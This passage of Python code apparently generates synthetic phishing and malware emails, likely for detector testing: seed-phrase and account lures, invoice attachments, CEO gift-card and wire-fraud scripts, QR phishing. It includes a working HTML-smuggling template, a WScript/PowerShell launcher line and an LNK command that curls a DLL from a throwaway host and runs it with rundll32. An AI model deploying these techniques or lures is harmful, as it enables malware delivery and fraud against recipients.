            ("btn", "Verify wallet", url, f"https://{bdom}/verify"),
            "Verification takes less than 3 minutes. You will be asked to confirm your Secret Recovery Phrase.",
        ]
    elif k == 1:
        subj = r.choice(
            [
                f"Unauthorized withdrawal attempt: {btc} BTC",
                f"{brand} security alert: withdrawal request pending",
                "Did you request a withdrawal?",
            ]
        )
        blocks = [
            ("h", "Withdrawal request"),
            (
                "kv",
                [
                    ("Amount", f"{btc} BTC"),
                    ("Destination", f"bc1q{rs(r, 38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')}"),
                    ("IP", doc_ip(r)),
                    ("Location", r.choice(["Hanoi, VN", "Minsk, BY", "Caracas, VE"])),
                ],
            ),
            "If you did not make this request, cancel it immediately:",
            ("btn", "Cancel withdrawal", url, f"https://www.{bdom}/security"),
            f"Or call our 24/7 security line: +1 (8{r.randint(0, 8)}8) 555-01{r.randint(10, 99)}",
        ]
    elif k == 2:
        subj = r.choice(
            [
                f"{brand} firmware update: secure your device",
                f"Data breach notice: protect your {brand} assets",
                "Critical security update for your hardware wallet",
            ]
        )
        blocks = [
            ("h", "Security incident notice"),
            f"We recently discovered that our e-commerce database was accessed by an unauthorized party. As a precaution, please migrate your assets to a new secure seed using the {brand} Live update.",
            ("btn", "Download update", url, f"https://{bdom}/ledger-live"),
            "Never share your 24 words with anyone. Our update tool runs locally.",
        ]
    elif k == 3:
        words = " ".join(
            r.sample(
                [
                    "abandon",
                    "cabin",
                    "ritual",
                    "orbit",
                    "panther",
                    "velvet",
                    "glimpse",
                    "harbor",
                    "lunar",
                    "monkey",
                    "oxygen",
                    "shiver",
                    "tribe",
                    "wisdom",
                    "zebra",
                    "anchor",
                ],
                4,
            )
        )
        subj = r.choice(
            [
                "Your airdrop is ready to claim",
                f"{brand} rewards: you've earned {r.randint(200, 2500)} USDT",
                "Claim your staking rewards before they expire",
            ]
        )
        blocks = [
            ("h", "Congratulations!"),
            f"Your wallet has been selected for the {brand} loyalty airdrop worth ${r.randint(500, 4800)}. Connect your wallet to claim.",
            ("btn", "Connect wallet", url, f"https://{bdom}/rewards"),
            f"Reference phrase: {words} ...",
        ]
    else:
        subj = r.choice(
            [f"{brand} account: unusual login from new device", "New device confirmation required"]
        )
        blocks = [
            ("h", "New sign-in"),
            f"A new device signed in to your {brand} account. If this wasn't you, secure your account.",
            (
                "kv",
                [("Device", r.choice(["Linux x86_64", "Windows 10 Chrome", "iPhone 12"])), ("IP", doc_ip(r))],
            ),
            ("btn", "Secure account", url, f"https://www.{bdom}/settings/security"),
            f"{brand} Security Team",
        ]
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(r.choice([brand, f"{brand} Support", f"{brand} Security", f"{brand} Team"]), frm),
        subj,
        blocks,
        brand,
        color,
        [f"© {dt.year} {brand}. All rights reserved."],
    )


# ---- social media ------------------------------------------------------------------------------


def f_social(r: random.Random, i: int) -> bytes:
    p = victim(r, [BD, OFFICE, MD, GIS])
    dt = rdate(r)
    k = i % 6
    extra: list[Header] = []
    if k in (0, 1):
        brand, bdom, color = r.choice(
            [
                ("Meta for Business", "facebookmail.com", "#0866ff"),
                ("Meta Support", "meta.com", "#0866ff"),
                ("Facebook", "facebookmail.com", "#1877f2"),
            ]
        )
        url = r.choice(
            [
                hosted(r, "meta"),
                kit_url(
                    r,
                    f"meta-{r.choice(['appeal', 'business', 'support', 'case'])}-{rs(r, 4, LOWER)}.{r.choice(THROWAWAY_TLDS)}",
                ),
                f"https://www.facebook.com/l.php?u={urllib.parse.quote(kit_url(r, throwaway(r)), safe='')}",
                f"https://{rs(r, 6, LOWER)}.{r.choice(['vercel.app', 'netlify.app', 'web.app'])}/case/{digits(r, 16)}",
            ]
        )
        rt, frm = sender_any(
            r,
            bdom,
            local=r.choice(["security", "notification", "appeals", "business"]),
            stem=f"meta-{r.choice(['policy', 'appeal'])}",
        )
        subj = r.choice(
            [
                "Your page has been scheduled for permanent deletion",
                f"Copyright infringement notice - Case #{digits(r, 12)}",
                "Meta: Your account has violated our Community Standards",
                "Final warning: your Page will be disabled in 24 hours",
                "Your Facebook Page is restricted from advertising",
            ]
        )
        blocks = [
            ("h", "Meta Policy Review"),
            f"We have received a copyright infringement report about content on your Page ({ORG}). Your Page will be permanently disabled within 24 hours unless you submit an appeal.",
            (
                "kv",
                [
                    ("Case number", digits(r, 15)),
                    (
                        "Violation",
                        r.choice(["Intellectual property", "Impersonation", "Trademark infringement"]),
                    ),
                ],
            ),
            ("btn", "Submit appeal", url, "https://www.facebook.com/help/contact"),
            "If you believe this was a mistake, please fill out the appeal form. Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025",
        ]
    elif k == 2:
        brand, bdom, color = "Instagram", "mail.instagram.com", "#c13584"
        url = landing(r, "instagram", "")
        rt, frm = sender_any(r, "mail.instagram.com", local="security", stem="insta-verify")
        subj = r.choice(
            [
                "Your account is eligible for the blue badge",
                "Instagram verification request approved",
                "Copyright infringement detected on your Instagram account",
            ]
        )
        blocks = [
            ("h", "Verified badge"),
            "Hi castellansurvey, your account has been reviewed and is eligible for the verified badge. Complete the form within 48 hours.",
            ("btn", "Get verified", url, "https://help.instagram.com/verify"),
            "from Meta",
        ]
    elif k == 3:
        brand, bdom, color = "LinkedIn", "linkedin.com", "#0a66c2"
        url = landing(r, "linkedin", p.email)
        rt, frm = sender_any(
            r,
            "linkedin.com",
            local=r.choice(["messages-noreply", "invitations", "security-noreply"]),
            stem="linkedin-mail",
        )
        who = f"{r.choice(FIRST)} {r.choice(LAST)}"
        subj = r.choice(
            [
                f"{who} sent you a message",
                "You appeared in 9 searches this week",
                f"{who} wants to connect",
                "Your LinkedIn account has been temporarily restricted",
            ]
        )
        blocks = [
            ("h", "You have 1 new message"),
            f"{who}, {r.choice(['Procurement Director', 'Senior Recruiter', 'Head of Estates'])} at {r.choice(COMPROMISED)[0]}",
            f'"Hi {p.first}, I came across your profile and would like to discuss a business proposal regarding a large survey project. Please view the attached RFQ."',
            ("btn", "View message", url, "https://www.linkedin.com/messaging/"),
            f"This email was intended for {p.name}.",
        ]
    elif k == 4:
        brand, bdom, color = r.choice(
            [
                ("X", "x.com", "#000000"),
                ("TikTok for Business", "tiktok.com", "#fe2c55"),
                ("YouTube", "youtube.com", "#ff0000"),
            ]
        )
        url = landing(r, bdom.split(".")[0], "")
        rt, frm = sender_any(r, bdom, local="support", stem=f"{bdom.split('.')[0]}-ads")
        subj = r.choice(
            [
                f"{brand}: your ad account has been suspended",
                f"Your {brand} account will be suspended",
                f"{brand} Ads: billing issue",
            ]
        )
        blocks = [
            ("h", "Account suspended"),
            f"Your {brand} business account has been suspended for suspicious activity. Verify ownership to restore access.",
            ("btn", "Verify ownership", url, f"https://{bdom}/business"),
            f"The {brand} team",
        ]
    else:
        brand, bdom, color = "Meta Business Suite", "business.facebook.com", "#0866ff"
        rt = r_freemail(r, "gmail.com", f"meta.policy.{rs(r, 4, LOWER)}{digits(r, 3)}@gmail.com")
        frm = rt.envelope
        url = f"https://docs.google.com/forms/d/e/1FAIpQL{rs(r, 49, URLSAFE)}/viewform"
        text = f"Hello,\n\nYour Facebook page {ORG} has been reported for trademark infringement. According to our Terms of Service, your Page will be permanently removed if you do not submit an objection within 24 hours.\n\nSubmit an objection: {url}\n\nCase ID: #{digits(r, 12)}\n\nMeta Business Support Team\n"
        rcpt, to = recipients(r, p, 0.4, frm)
        return letter(
            r,
            rt,
            rcpt,
            to,
            dt,
            addr("Meta Business Support", frm),
            f"Case #{digits(r, 12)}: Page violation notice",
            text,
            with_html=False,
        )
    rcpt, to = recipients(r, p, 0.4, frm)
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(r.choice([brand, f"{brand} Support", f"{brand} Team"]), frm),
        subj,
        blocks,
        brand,
        color,
        [f"This message was sent to {p.email}."],
        extra,
    )


# ---- invoices, purchase orders and malware-bearing attachments ---------------------------------


def smuggle_html(r: random.Random, inner_name: str, payload: bytes) -> str:
    data = base64.b64encode(payload).decode()
    chunks = [data[j : j + 76] for j in range(0, len(data), 76)]
    joined = "'+\n'".join(chunks)
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Document Viewer</title></head><body>
<p>Your file is downloading. If it does not start, <a id="d" href="#">click here</a>.</p>
<script>
var b='{joined}';
function s(x){{var c=window.atob(x);var a=new Uint8Array(c.length);for(var i=0;i<c.length;i++){{a[i]=c.charCodeAt(i)}}return a}}
var f=new Blob([s(b)],{{type:'application/octet-stream'}});var u=window.URL.createObjectURL(f);
var l=document.getElementById('d');l.href=u;l.download='{inner_name}';l.click();
</script></body></html>"""


def f_invoice(r: random.Random, i: int) -> bytes:
    p = r.choice([FINANCE, ACCOUNTS, OFFICE, MD])
    dt = rdate(r)
    k = i % 10
    inv = f"{r.choice(['INV', 'SI', 'PO', 'INV-', ''])}{digits(r, r.randint(5, 7))}"
    amount = f"£{r.randint(1200, 48000):,}.{r.randint(0, 99):02d}"
    sname = f"{r.choice(FIRST)} {r.choice(LAST)}"
    org = r.choice(COMPROMISED)
    local = (
        sname.split()[0].lower()
        if r.random() < 0.5
        else r.choice(["accounts", "invoices", "sales", "finance"])
    )
    if r.random() < 0.6:
        rt = r_compromised(r, org, local)
        frm = rt.envelope
        company = org[0]
    else:
        dom = (
            throwaway(r)
            if r.random() < 0.5
            else f"{rs(r, 6, ALPHA)}-{r.choice(['trading', 'supplies', 'group', 'ltd'])}.{r.choice(['com', 'co.uk', 'net'])}"
        )
        rt = r_throwaway(r, dom, local)
        frm = rt.envelope
        company = dom.split(".")[0].replace("-", " ").title().replace(" Ltd", "") + " Ltd"
    rcpt = p.email
    to = r.choice([addr(p.name, p.email), f"accounts@{DOM}", "undisclosed-recipients:;"])
    if to == f"accounts@{DOM}":
        rcpt = to
    sig = f"\n\nKind regards,\n{sname}\n{r.choice(['Accounts Department', 'Credit Control', 'Sales Ledger', 'Purchasing'])}\n{company}\nTel: +44 1632 96{digits(r, 4)}\n"
    att: list[Ent] = []
    lang = "en"
    if k == 0:
        link = landing(r, "invoice", p.email)
        att = [
            attach(
                f"{inv}.pdf",
                PDF,
                fake_pdf(
                    r,
                    f"INVOICE {inv}",
                    [
                        company,
                        f"Amount due: {amount}",
                        "This document is protected.",
                        "Click below to view the full invoice online.",
                    ],
                    link,
                    "VIEW SECURE DOCUMENT",
                ),
            )
        ]
        subj = r.choice(
            [
                f"Invoice {inv} from {company}",
                f"Overdue Invoice {inv}",
                f"Payment Reminder - {inv}",
                f"Statement of account - {company}",
            ]
        )
        text = f"Hello,\n\nPlease find attached invoice {inv} for {amount}, now overdue. Kindly arrange payment at your earliest convenience.{sig}"
    elif k == 1:
        att = [
            attach(
                r.choice(
                    [
                        f"INV_{inv}.html",
                        f"Payment_Advice_{digits(r, 6)}.htm",
                        f"Remittance-{sdate(dt).replace('/', '')}.html",
                        f"{inv}_pdf.html",
                    ]
                ),
                HTM,
                htm_login(
                    r, "Microsoft Excel Online", p.email, landing(r, "excel", ""), r.randrange(5)
                ).encode(),
            )
        ]
        subj = r.choice(
            [
                f"Remittance Advice - {amount}",
                f"Payment confirmation {inv}",
                f"RE: Invoice {inv} - payment sent",
                "Payment Advice Note",
            ]
        )
        text = f"Dear Sir/Madam,\n\nPlease find attached payment advice for invoice(s) {inv}. The payment was processed today.{sig}"
    elif k == 2:
        name = r.choice(
            [
                f"Invoice_{inv}.pdf.exe",
                f"{inv}.pdf                                   .exe",
                f"Scan_{digits(r, 6)}.PDF.scr",
                "Statement.xlsx.exe",
            ]
        )
        att = [attach(f"{inv}.zip", ZIP, fake_zip({name: fake_exe(r)}))]
        subj = r.choice([f"Invoice {inv}", f"Purchase Order {inv} - urgent", "New order request"])
        text = f"Good day,\n\nPlease see attached purchase order and confirm availability and lead time.{sig}"
    elif k == 3:
        pw = r.choice(
            [digits(r, 4), rs(r, 6, LOWER + string.ascii_uppercase), f"INV{digits(r, 3)}", "2025", "1234"]
        )
        arc = r.choice([f"Invoice_{inv}.zip", f"Documents_{digits(r, 5)}.zip", f"Payment_{inv}.zip"])
        att = [
            attach(
                arc,
                ZIP,
                encrypted_zip(
                    r,
                    [
                        r.choice(
                            [
                                f"Invoice_{inv}.js",
                                f"Invoice_{inv}.vbs",
                                f"Invoice_{inv}.exe",
                                f"Scan_{inv}.wsf",
                                f"Invoice_{inv}.lnk",
                            ]
                        )
                    ],
                ),
            )
        ]
        subj = r.choice(
            [f"Invoice {inv} - password protected", f"Secure documents: {inv}", f"Re: unpaid invoice {inv}"]
        )
        text = f"Hello,\n\nThe attached invoice is password protected for security reasons.\n\nPassword: {pw}\n\nPlease confirm receipt.{sig}"
    elif k == 4:
        iname = r.choice([f"Invoice_{inv}.iso", f"PO_{inv}.img", f"Order_{inv}.vhd"])
        ext = iname.rsplit(".", 1)[1]
        att = [
            attach(
                iname,
                {"iso": "application/x-iso9660-image", "img": OCTET, "vhd": OCTET}[ext],
                fake_iso(r, f"INVOICE_{inv}.EXE" if r.random() < 0.5 else f"INVOICE_{inv}.LNK"),
            )
        ]
        subj = r.choice([f"Order Confirmation {inv}", f"Shipping documents {inv}", f"Purchase Order #{inv}"])
        text = f"Hi,\n\nPlease find our new order attached. Kindly send proforma invoice.{sig}"
    elif k == 5:
        inner = r.choice([f"Invoice_{inv}.zip", f"Invoice_{inv}.iso"])
        payload = fake_zip(
            {
                f"Invoice_{inv}.js": f"var x='{rs(r, 60, ALNUM)}';new ActiveXObject('WScript.Shell').Run('powershell -enc {rs(r, 40, ALNUM)}');"
            }
        )
        att = [attach(f"Invoice_{inv}.html", HTM, smuggle_html(r, inner, payload).encode())]
        subj = r.choice([f"Your invoice {inv} is ready", f"Invoice #{inv} attached", "Outstanding balance"])
        text = f"Good afternoon,\n\nAttached is the invoice for work completed last month. The file opens in your browser.{sig}"
    elif k == 6:
        att = [
            attach(
                f"Invoice_{inv}.zip",
                ZIP,
                fake_zip(
                    {
                        f"Invoice_{inv}.pdf.lnk": lnk_bytes(
                            r,
                            f"C:\\Windows\\System32\\cmd.exe /c curl -o %temp%\\{rs(r, 5, LOWER)}.dll {kit_url(r, throwaway(r))} & rundll32 %temp%\\{rs(r, 5, LOWER)}.dll,Start",
                        )
                    }
                ),
            )
        ]
        subj = r.choice([f"Remittance {inv}", f"Invoice {inv} - copy", f"Quotation request {inv}"])
        text = f"Dear {p.first},\n\nAs discussed, please see the documents attached.{sig}"
    elif k == 7:
        lang = r.choice(["de", "it", "es"])
        link = landing(r, "rechnung", p.email)
        if lang == "de":
            subj = f"Rechnung Nr. {inv} vom {dt:%d.%m.%Y}"
            text = f"Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. {inv} über {amount.replace('£', '')} EUR. Sie können die Rechnung hier herunterladen:\n\n{link}\n\nMit freundlichen Grüßen\n{sname}\nBuchhaltung\n"
        elif lang == "it":
            subj = f"Fattura n. {inv} - sollecito di pagamento"
            text = f"Gentile cliente,\n\nin allegato la fattura n. {inv} scaduta. La preghiamo di provvedere al pagamento.\n\nScarica la fattura: {link}\n\nCordiali saluti\n{sname}\nUfficio Amministrazione\n"
        else:
            subj = f"Factura {inv} pendiente de pago"
            text = f"Estimado cliente,\n\nAdjuntamos la factura {inv} pendiente de pago. Puede descargarla en el siguiente enlace:\n\n{link}\n\nUn saludo,\n{sname}\nDepartamento de Administración\n"
        att = (
            [
                attach(
                    f"{inv}.pdf",
                    PDF,
                    fake_pdf(
                        r,
                        f"{inv}",
                        [company],
                        link,
                        "Dokument anzeigen"
                        if lang == "de"
                        else "Visualizza"
                        if lang == "it"
                        else "Ver factura",
                    ),
                )
            ]
            if r.random() < 0.5
            else []
        )
    elif k == 8:
        svg = svg_redirect(r, landing(r, "invoice", ""), p.email)
        att = [attach(f"Invoice_{inv}.svg", "image/svg+xml", svg.encode())]
        subj = r.choice(
            [
                f"ACH Payment Notification - {amount}",
                f"Invoice {inv}: payment processed",
                "Your payment has been received",
            ]
        )
        text = f"Hello,\n\nACH payment has been issued for {amount}. Please see the attached remittance.{sig}"
    else:
        att = [
            attach(
                f"PO_{inv}.xlsx.html",
                HTM,
                htm_login(r, "Excel", p.email, landing(r, "excel", ""), 0).encode(),
            )
        ]
        subj = r.choice(
            [
                f"RFQ {inv} - {r.choice(['topographic survey', 'measured building survey', 'drone survey'])}",
                f"Request for Quotation {inv}",
            ]
        )
        text = f"Dear Sales,\n\nWe are interested in your services. Please find attached our RFQ with specifications and quote your best price.{sig}"
    cs = r.choice(["utf-8", "windows-1252", "iso-8859-1"]) if lang != "en" or r.random() < 0.4 else "utf-8"
    extra: list[Header] = (
        [("Reply-To", f"{local}.{rs(r, 3, LOWER)}@{r.choice(['gmail.com', 'outlook.com', throwaway(r)])}")]
        if r.random() < 0.25
        else []
    )
    if r.random() < 0.4:
        extra.append(
            (
                "X-Mailer",
                r.choice(
                    [
                        "Microsoft Outlook 16.0",
                        "Microsoft Office Outlook 12.0",
                        "Foxmail 7.2.25.375",
                        "Roundcube Webmail/1.6.5",
                    ]
                ),
            )
        )
    return letter(
        r,
        rt,
        rcpt,
        to,
        dt,
        addr(f"{sname}" if r.random() < 0.6 else company, frm),
        subj,
        text,
        extra,
        att,
        cs=cs,
    )


# ---- business email compromise ---------------------------------------------------------------


def f_bec(r: random.Random, i: int) -> bytes:
    dt = rdate(r, r.choice(["+0000", "+0100", "+0100", "-0500", "+0300"]))
    k = i % 9
    ceo = MD
    prov = r.choice(
        [
            "gmail.com",
            "outlook.com",
            "hotmail.com",
            "icloud.com",
            "aol.com",
            "yahoo.com",
            "gmx.com",
            "proton.me",
        ]
    )
    ceo_addr = r.choice(
        [
            f"{ceo.first.lower()}.{ceo.last.lower()}{digits(r, 2)}@{prov}",
            f"{ceo.first[0].lower()}{ceo.last.lower()}.md@{prov}",
            f"ceo.{DOMBASE.replace('-', '')}@{prov}",
            f"{ceo.first.lower()}{r.choice(['.office', '.exec', 'p'])}{digits(r, 3)}@{prov}",
        ]
    )
    mobile = r.choice(
        [
            "Sent from my iPhone",
            "Sent from my iPad",
            "Sent from Outlook for iOS",
            "Get Outlook for Android",
            "Sent from my Samsung Galaxy smartphone.",
        ]
    )
    extra: list[Header] = []
    att: list[Ent] = []
    cs = "utf-8"
    if k in (0, 1):
        p = victim(r, [FINANCE, ACCOUNTS, OFFICE, HRP, PROJECT])
        rt = r_freemail(r, prov, ceo_addr)
        subj = r.choice(
            [
                "Are you available?",
                "Quick favour",
                "Request",
                "Urgent",
                "Are you at your desk?",
                "Task",
                f"{p.first}",
                "Need your help",
                "",
            ]
        )
        text = r.choice(
            [
                f"Hi {p.first},\n\nAre you available? I need you to handle a task for me discreetly. I'm in a meeting and can't talk, reply by email.\n\n{ceo.first}\n\n{mobile}\n",
                f"{p.first},\n\nDo you have a moment? I need a quick favour.\n\nRegards\n{ceo.name}\n{ceo.title}\n",
                f"Hello {p.first}, let me know when you are free. I have something I need you to take care of right away.\n\nThanks\n{ceo.first}\n{mobile}\n",
                f"Hi {p.first}\n\nSend me your mobile number, I need you to do something for me urgently.\n\n{ceo.first} {ceo.last}\n",
            ]
        )
        frm = addr(r.choice([ceo.name, f"{ceo.name} (MD)", ceo.first, f"{ceo.name} {ORG}"]), ceo_addr)
        if r.random() < 0.4:
            extra.append(
                (
                    "Reply-To",
                    f"{ceo.first.lower()}.{ceo.last.lower()}.{rs(r, 3, LOWER)}@{r.choice(['gmail.com', 'outlook.com', 'mail.com'])}",
                )
            )
    elif k == 2:
        p = victim(r, [OFFICE, HRP, PROJECT, BSURV])
        rt = r_freemail(r, prov, ceo_addr)
        n = r.choice([5, 8, 10, 12])
        val = r.choice([100, 200, 250])
        card = r.choice(["Apple", "Amazon", "Google Play", "Steam", "Visa", "One4all"])
        subj = r.choice(
            ["Gift cards", "Staff appreciation", "Surprise for the team", "Confidential", "Urgent request"]
        )
        text = f"Hi {p.first},\n\nI want to surprise some of the staff with gift cards for their hard work this quarter. I need you to get {n} {card} gift cards, £{val} each. Keep it between us for now, it's a surprise.\n\nScratch off the back, take clear pictures of the codes and email them to me. I'll reimburse you this afternoon.\n\nCan you get that done within the hour?\n\n{ceo.first}\n{mobile}\n"
        frm = addr(ceo.name, ceo_addr)
    elif k == 3:
        p = FINANCE
        dom = (
            lookalike(r, DOM)
            if r.random() < 0.5
            else f"{DOMBASE}-{r.choice(['ltd', 'uk', 'group', 'mail'])}.{r.choice(['com', 'co.uk', 'net'])}"
        )
        sender = f"{ceo.local}@{dom}"
        rt = (
            r_throwaway(r, dom, ceo.local, dkim=r.random() < 0.6)
            if r.random() < 0.6
            else r_freemail(r, prov, ceo_addr)
        )
        if rt.envelope == ceo_addr:
            sender = ceo_addr
        amt = f"£{r.randint(18, 96)},{r.randint(100, 999)}.{r.randint(0, 99):02d}"
        subj = r.choice(
            [
                "Urgent wire transfer",
                "Payment needed today",
                "Confidential acquisition - payment",
                f"RE: Payment {digits(r, 5)}",
                "Time-sensitive transfer",
            ]
        )
        text = f"Fiona,\n\nI need you to process an urgent payment today of {amt} to a new supplier for the {r.choice(['Leeds', 'Sheffield', 'York', 'Durham'])} site deposit. This is time sensitive and confidential, please don't discuss with anyone else until the deal is announced.\n\nBeneficiary: {r.choice(['Westbridge Consulting Ltd', 'Northfield Project Services', 'Hartmoor Holdings'])}\nSort code: {r.randint(10, 99)}-{r.randint(10, 99)}-{r.randint(10, 99)}\nAccount: {digits(r, 8)}\nReference: {rs(r, 3, string.ascii_uppercase)}{digits(r, 4)}\n\nSend me confirmation once done. I'm in meetings all day so email only.\n\n{ceo.first}\n{mobile}\n"
        frm = addr(ceo.name, sender)
    elif k == 4:
        who = victim(r, [SURVEYOR, GIS, PROJECT, BSURV, BD, IT])
        p = HRP
        wprov = r.choice(["gmail.com", "outlook.com", "yahoo.com", "icloud.com"])
        waddr = f"{who.first.lower()}{who.last.lower()[:3]}{digits(r, 2)}@{wprov}"
        rt = r_freemail(r, wprov, waddr)
        subj = r.choice(
            [
                "Direct deposit change",
                "Change of bank details",
                "Payroll update",
                "Update my salary account",
                "New bank account",
            ]
        )
        text = f"Hi {p.first},\n\nI've recently changed banks and would like my salary paid into my new account from this month's payroll. Can you let me know what details you need, or can I just send them over?\n\nThanks,\n{who.first}\n{mobile if r.random() < 0.5 else ''}\n"
        frm = addr(who.name, waddr)
        if r.random() < 0.3:
            extra.append(("Reply-To", waddr))
    elif k in (5, 6):
        p = r.choice([FINANCE, ACCOUNTS])
        vendor = r.choice(
            [
                ("Pennine Plant Hire Ltd", "penninepanthire.co.uk"),
                ("Northdale Calibration Services", "northdalecalibration.com"),
                ("Aire Valley Printing", "airevalleyprint.co.uk"),
                ("Trimcote Instruments UK", "trimcote-instruments.co.uk"),
            ]
        )
        real = vendor[1]
        fake = lookalike(r, real)
        vname = f"{r.choice(FIRST)} {r.choice(LAST)}"
        rt = (
            r_throwaway(r, fake, vname.split()[0].lower(), dkim=True)
            if r.random() < 0.7
            else r_m365_tenant(r, fake, f"{vname.split()[0].lower()}@{fake}")
        )
        frm = addr(vname, f"{vname.split()[0].lower()}@{fake}")
        if k == 5:
            subj = r.choice(
                [
                    "Change of bank details",
                    "Updated remittance information",
                    "Important: new bank account details",
                    f"{vendor[0]} - bank details update",
                ]
            )
            text = f"Dear {p.first},\n\nPlease be advised that due to our annual audit, we have changed our banking arrangements. All future payments, including the outstanding invoices listed below, should be made to our new account:\n\nBank: {r.choice(['Metro Bank', 'Starling Bank', 'Monzo Business', 'Revolut Business'])}\nAccount name: {vendor[0]}\nSort code: {r.randint(10, 99)}-{r.randint(10, 99)}-{r.randint(10, 99)}\nAccount number: {digits(r, 8)}\n\nOutstanding: INV-{digits(r, 5)}, INV-{digits(r, 5)}\n\nPlease do not use the old account details as that account is under review. Kindly confirm once you have updated your records.\n\nKind regards,\n{vname}\nAccounts Receivable\n{vendor[0]}\n"
            if r.random() < 0.5:
                att = [
                    attach(
                        f"{vendor[0].split()[0]}_Bank_Letter.pdf",
                        PDF,
                        fake_pdf(
                            r,
                            f"{vendor[0]}",
                            [
                                "Notice of change of bank details",
                                f"Sort code {r.randint(10, 99)}-{r.randint(10, 99)}-{r.randint(10, 99)}",
                                f"Account {digits(r, 8)}",
                                "Signed: Director",
                            ],
                        ),
                    )
                ]
        else:
            inv = digits(r, 5)
            subj = f"RE: outstanding invoice INV-{inv}"
            q = f"On {ldate(dt - timedelta(days=r.randint(6, 20)))}, {p.name} <{p.email}> wrote:\n> Hi {vname.split()[0]},\n> Thanks for the reminder. INV-{inv} is scheduled for our next payment run on Friday.\n> Regards, {p.first}"
            text = f"Hi {p.first},\n\nThanks for getting back to me. Before Friday's run, please note we've had to change our bank account as our previous bank has frozen incoming payments during an audit. The new details are attached on our letterhead.\n\nCould you confirm once updated and send the remittance to me directly?\n\nMany thanks,\n{vname}\n{vendor[0]}\n\n{q}\n"
            extra.append(("In-Reply-To", f"<{rs(r, 20, ALNUM)}@{DOM}>"))
            extra.append(("References", f"<{rs(r, 20, ALNUM)}@{real}> <{rs(r, 20, ALNUM)}@{DOM}>"))
            extra.append(("Thread-Topic", f"outstanding invoice INV-{inv}"))
            att = [
                attach(
                    "New_Bank_Details.pdf",
                    PDF,
                    fake_pdf(
                        r,
                        vendor[0],
                        [
                            "New account details",
                            f"Sort code {r.randint(10, 99)}-{r.randint(10, 99)}-{r.randint(10, 99)}",
                            f"Account {digits(r, 8)}",
                        ],
                    ),
                )
            ]
    elif k == 7:
        p = r.choice([FINANCE, ACCOUNTS, PROJECT])
        org = r.choice(COMPROMISED)
        who = f"{r.choice(FIRST)} {r.choice(LAST)}"
        local = who.split()[0].lower()
        rt = r_compromised(r, org, local)
        inv = digits(r, 5)
        url = landing(r, "sharepoint", p.email)
        subj = r.choice(
            [
                f"RE: RE: Survey works - {r.choice(['Ashgrove', 'Millfield', 'Stonegate'])} site",
                f"RE: Invoice {inv} query",
                "RE: Fee proposal revised",
                "RE: RE: Payment schedule",
            ]
        )
        q = f"From: {p.name} <{p.email}>\nSent: {ldate(dt - timedelta(days=r.randint(20, 200)))}\nTo: {who} <{local}@{org[1]}>\nSubject: {subj[4:]}\n\n> Hi {who.split()[0]},\n> Please find the revised drawings attached. Let me know if you have any questions.\n> Kind regards,\n> {p.name}\n> {p.title} | {ORG}"
        text = f"Hi {p.first},\n\nApologies for the delay. Please see the updated documents via the secure link below and confirm.\n\n{url}\n\nThanks,\n{who}\n{org[0]}\n\n{q}\n"
        frm = addr(who, rt.envelope)
        extra += [
            (
                "In-Reply-To",
                f"<{rs(r, 30, UHEX)}@{rs(r, 8, UHEX)}.eurprd0{r.randint(1, 9)}.prod.outlook.com>",
            ),
            ("References", f"<{rs(r, 30, UHEX)}@{rs(r, 8, UHEX)}.eurprd0{r.randint(1, 9)}.prod.outlook.com>"),
        ]
    else:
        lang = r.choice(["es", "fr"])
        p = FINANCE
        rt = r_freemail(r, prov, ceo_addr)
        cs = r.choice(["utf-8", "iso-8859-1"])
        if lang == "es":
            subj = "Operación confidencial"
            text = f"Hola {p.first},\n\nEstamos cerrando una adquisición en España y necesito que realices una transferencia urgente hoy. El abogado, Sr. {r.choice(['Navarro', 'Ortega', 'Vidal'])}, te contactará con los detalles. Por favor, mantén la máxima discreción.\n\n¿Estás disponible?\n\n{ceo.first}\n{mobile}\n"
        else:
            subj = "Dossier confidentiel - virement"
            text = f"Bonjour {p.first},\n\nJe suis en réunion avec nos avocats à Paris pour une acquisition. J'ai besoin que tu effectues un virement international aujourd'hui. Maître {r.choice(['Lefèvre', 'Dubois', 'Moreau'])} t'enverra les coordonnées bancaires. Merci de rester discrète.\n\nPeux-tu confirmer ta disponibilité ?\n\n{ceo.first}\n"
        frm = addr(ceo.name, ceo_addr)
    rcpt, to = p.email, addr(p.name, p.email) if r.random() < 0.8 else p.email
    return letter(
        r,
        rt,
        rcpt,
        to,
        dt,
        frm,
        subj,
        text,
        extra,
        att,
        cs=cs,
        msgid=mid(r, rt.from_dom, "gmail" if rt.from_dom == "gmail.com" else ""),
    )


def r_m365_tenant(r: random.Random, dom: str, sender: str) -> Route:
    """A freshly registered look-alike domain on a Microsoft 365 trial tenant."""
    helo = f"{r.choice(['GBR01', 'EUR05', 'LO4P265'])}-{r.choice(['CWL', 'LO2', 'AM6'])}-obe.outbound.protection.outlook.com"
    rt = Route(
        sender,
        helo,
        doc_ip(r),
        dom,
        [
            (dom, "selector1", "pass"),
            (
                f"{rs(r, 8, LOWER)}.onmicrosoft.com",
                "selector1-" + rs(r, 8, LOWER) + "-onmicrosoft-com",
                "pass",
            ),
        ],
        "pass",
        "none",
        "none",
    )
    rt.hops = [_m365_hop(r)]
    return rt


# ---- QR-code phishing ---------------------------------------------------------------------------


def f_qr(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 5
    img = qr_like_png(r, r.choice([25, 29, 33]), r.choice([4, 5, 6]))
    cid = f"{rs(r, 8, HEX)}@{rs(r, 6, LOWER)}"
    bdom, local, stem = [
        ("microsoft.com", "it-support", "mfa-secure"),
        (DOM, "hr", "hr-docs"),
        ("docusign.net", "dse", "esign-mobile"),
        ("microsoft.com", "voicemail", "vm-audio"),
        ("parkingeye.co.uk", "pcn", "parking-notice"),
    ][k]
    rt, frm = sender_any(r, bdom, local=local, stem=stem)
    rcpt, to = recipients(r, p, 0.3, frm)
    if k == 0:
        subj = r.choice(
            [
                "Action required: MFA re-authentication",
                f"{p.first}, your 2FA setup expires today",
                "Scan to re-authenticate your account",
                "Microsoft Authenticator: renewal required",
            ]
        )
        lines = [
            f"Dear {p.first},",
            "Your multi-factor authentication needs to be renewed. Scan the QR code below with your phone camera to re-authenticate and avoid losing access to your mailbox.",
